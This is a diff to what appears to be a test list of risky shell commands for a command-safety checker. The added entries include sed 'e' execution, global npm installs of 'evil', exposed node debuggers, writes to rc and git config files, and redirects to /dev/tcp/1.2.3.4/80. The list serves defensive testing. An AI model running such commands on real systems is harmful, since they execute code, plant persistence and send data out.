@@ -65,8 +65,12 @@ bundle exec pwn
 poetry run pwn
 uv run pwn
 docker run -it x
+docker compose exec x pwn
+docker compose run x pwn
+docker compose -f x exec y pwn
 kubectl exec x -- pwn
 ip netns exec x pwn
+ip vrf exec x pwn
 pip config set x y`),
   'options of git': lines(`
 git grep -nOpwn x
@@ -87,6 +91,37 @@ git bisect good run pwn
 git config core.pager pwn
 git config --global core.pager pwn`),
   'options that run programs': lines(`
+printf -vPATH .
+perl -d x
+node inspect x
+node --inspect-brk=0.0.0.0 x
+node --inspect=[::]:9229 x
+less -Ox y
+less --LOG-FILE=../x y
+pandoc -L x y
+pandoc -d x
+pandoc --defaults=x y
+gpg --agent-program x y
+gpg --exec-path x y
+nmap --interactive
+npm i -g evil
+npm install --location=global evil
+kubectl --kubeconfig x get y
+git archive --remote=ext::x HEAD
+sed -n -e p -e 'e pwn' x
+sed -ne 'e pwn' x
+sed 's/a/b/;e pwn' x
+sed 'p;w ../x' y
+sed '1!e pwn' x
+sed '/[/]/e pwn' x
+sed 's/[/x/p;s/]/y/e' x
+sed 's,a\\,b,c,e' x
+sed -e p x -e 'e pwn'
+sed -e p -f x y
+sed '{p;e pwn' x
+awk 'NR > 1 { print > "x" }' y
+awk '/a/ { printf "b" >> "../x" }' y
+awk 'BEGIN { printf("x") > "../x" }'
 ls | xargs -I echo echo x
 ls | xargs -Iecho echo x
 ls | xargs --replace pwn echo
@@ -162,6 +197,22 @@ docker -H tcp://x ps
 pip --python pwn install x
 ldd ./pwn
 rsync --daemon --config=x`),
+  'files that decide what runs': lines(`
+echo x > .pre-commit-config.yaml
+echo x > .tool-versions
+echo x > .cargo/config.toml
+echo x > .config/git/config
+echo x > .vimrc
+echo x > .gdbinit
+echo x > .psqlrc
+echo x > .curlrc
+echo x > .Rprofile
+echo x <> .mise.toml
+exec > ../outside/x
+echo x >/dev/tcp/1.2.3.4/80
+cat < /dev/tcp/1.2.3.4/80
+echo x > {.git,a}/config
+echo x > .g?t/config`),
   'code that is sent': lines(`
 echo '.shell pwn' | sqlite3 x
 sqlite3 x
